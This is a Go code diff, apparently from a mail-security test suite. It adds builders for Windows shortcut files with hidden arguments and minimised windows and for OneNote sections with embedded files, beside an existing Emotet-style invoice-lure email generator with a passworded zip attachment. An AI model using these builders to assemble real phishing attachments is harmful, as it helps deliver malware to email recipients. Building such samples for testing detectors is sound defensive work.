@@ -524,3 +524,65 @@ func EmotetMail(aes bool, body string) []byte {
 	z := EncryptedZip([]ZipEntry{{Name: "請求書_2026.xlsm", Data: xlsm}}, "abc123", aes)
 	return Mail("Re: ご請求書の件", body, Attachment{Name: "請求書.zip", Type: "application/zip", Data: z})
 }
+
+// LNK builds a shell link ([MS-SHLLINK]) whose LinkInfo names target as
+// its local base path, with Unicode arguments and working directory;
+// showCmd is the window state (1 normal, 7 minimised).
+func LNK(target, args, workDir string, showCmd uint32) []byte {
+	var b bytes.Buffer
+	le := func(v any) { binary.Write(&b, binary.LittleEndian, v) }
+	flags := uint32(1<<1 | 1<<4 | 1<<5 | 1<<7) // LinkInfo, WorkingDir, Arguments, Unicode
+	le(uint32(0x4C))
+	b.Write([]byte{0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46})
+	le(flags)
+	le(uint32(0x20))          // FILE_ATTRIBUTE_ARCHIVE
+	b.Write(make([]byte, 24)) // times
+	le(uint32(0))             // file size
+	le(uint32(0))             // icon index
+	le(showCmd)
+	b.Write(make([]byte, 12)) // hot key, reserved
+	// LinkInfo: 28-byte header, VolumeID (minimal), base path, suffix.
+	vol := []byte{16, 0, 0, 0, 3, 0, 0, 0, 0, 0, 0, 0, 16, 0, 0, 0}
+	base := append([]byte(target), 0)
+	hdr := 28
+	volOff := hdr
+	baseOff := volOff + len(vol)
+	sufOff := baseOff + len(base)
+	size := sufOff + 1
+	le(uint32(size))
+	le(uint32(hdr))
+	le(uint32(1)) // VolumeIDAndLocalBasePath
+	le(uint32(volOff))
+	le(uint32(baseOff))
+	le(uint32(0)) // no network link
+	le(uint32(sufOff))
+	b.Write(vol)
+	b.Write(base)
+	b.WriteByte(0)
+	for _, s := range []string{workDir, args} {
+		u := utf16.Encode([]rune(s))
+		le(uint16(len(u)))
+		for _, c := range u {
+			le(c)
+		}
+	}
+	le(uint32(0)) // terminal block
+	return b.Bytes()
+}
+
+// OneNote builds a minimal OneNote section holding files as
+// FileDataStoreObjects ([MS-ONESTORE]).
+func OneNote(files ...[]byte) []byte {
+	var b bytes.Buffer
+	b.Write([]byte{0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D, 0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3})
+	b.Write(make([]byte, 1024-16)) // the rest of the header, unread
+	for _, f := range files {
+		b.Write([]byte{0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26, 0x11, 0x45, 0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A, 0x9E, 0xAC})
+		binary.Write(&b, binary.LittleEndian, uint64(len(f)))
+		b.Write(make([]byte, 12))
+		b.Write(f)
+		b.Write([]byte{0x22, 0xA7, 0xFB, 0x71, 0x79, 0x0F, 0x0B, 0x4A, 0xBB, 0x13, 0x89, 0x92, 0x56, 0x42, 0x6B, 0x24})
+		b.Write(make([]byte, (8-len(f)%8)%8))
+	}
+	return b.Bytes()
+}
